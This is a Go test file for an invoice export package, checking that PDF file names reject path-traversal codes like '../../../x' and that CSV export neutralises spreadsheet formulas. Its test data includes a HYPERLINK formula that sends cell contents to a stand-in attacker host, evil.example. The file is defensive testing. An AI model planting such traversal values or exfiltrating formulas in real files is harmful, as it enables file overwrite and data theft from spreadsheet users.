package export

import (
	"archive/zip"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/kaipiao/kaipiao/invoice"
	"github.com/kaipiao/kaipiao/store"
)

// A record whose code climbs out of the folder (one stored before codes were checked, or
// a damaged file) gets no file, in a folder or a zip: the export stops with an error
// naming the code.
func TestPDFNamesAreMadeOfDigitsOnly(t *testing.T) {
	base := t.TempDir()
	dst := filepath.Join(base, "out", "pdfs")
	good := &invoice.Invoice{Issued: invoice.Issued{Code: "035020026011", Number: "00000001"}}
	bad := &invoice.Invoice{Issued: invoice.Issued{Code: "../../../x", Number: "00000002"}}
	render := func(*invoice.Invoice) ([]byte, error) { return []byte("%PDF-1.7"), nil }
	recs := []*store.Record{{Invoice: good}, {Invoice: bad}}
	names, err := WritePDFs(dst, recs, render)
	if err == nil || !strings.Contains(err.Error(), "发票代码") || len(names) != 1 {
		t.Fatalf("folder: %v, %v", names, err)
	}
	if _, err := os.Stat(filepath.Join(base, "x_00000002.pdf")); !os.IsNotExist(err) {
		t.Fatal("a file was written outside the folder")
	}
	if st, err := os.Stat(names[0]); err != nil || st.Mode().Perm() != ExportMode {
		t.Fatalf("the good PDF: %v %v", st, err)
	}
	zipPath := filepath.Join(base, "pdfs.zip")
	if _, err := WritePDFs(zipPath, recs, render); err == nil {
		t.Fatal("the zip export took a ../ name")
	}
	if _, err := zip.OpenReader(zipPath); err == nil {
		t.Fatal("a zip was left behind")
	}
	if _, err := PDFName(&invoice.Invoice{Issued: invoice.Issued{Code: "035020026011", Number: "0000001/"}}); err == nil {
		t.Fatal("a number with a slash made a name")
	}
}

// The review: the CSV export wrote =HYPERLINK(…) cells raw. A cell that a spreadsheet
// would run is written with a leading apostrophe; a red invoice's negative amount stays
// a number.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	inv := &invoice.Invoice{Issued: invoice.Issued{Code: "035020026011", Number: "00000001"},
		Buyer: invoice.Party{Name: `=HYPERLINK("http://evil.example/?"&A1,"点此")`, TaxID: "+1234"},
		Lines: []invoice.Line{{Name: "@SUM(A1:A9)", Amount: -10000, Rate: invoice.Rate6, Tax: -600}}}
	var b strings.Builder
	if err := WriteListCSV(&b, []*store.Record{{Invoice: inv}}, time.UTC); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff")))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	negative := false
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
				t.Errorf("a formula cell left as it was: %q", cell)
			}
			if strings.HasPrefix(cell, "-") && cell != "-" {
				negative = true
			}
		}
	}
	if !negative || !strings.Contains(b.String(), `'=HYPERLINK`) {
		t.Fatalf("export:\n%s", b.String())
	}
	for in, want := range map[string]string{"-100.00": "-100.00", "-cmd": "'-cmd", "正常": "正常", "\t=1": "'\t=1"} {
		if got := NeutralCell(in); got != want {
			t.Errorf("NeutralCell(%q) = %q, want %q", in, got, want)
		}
	}
}
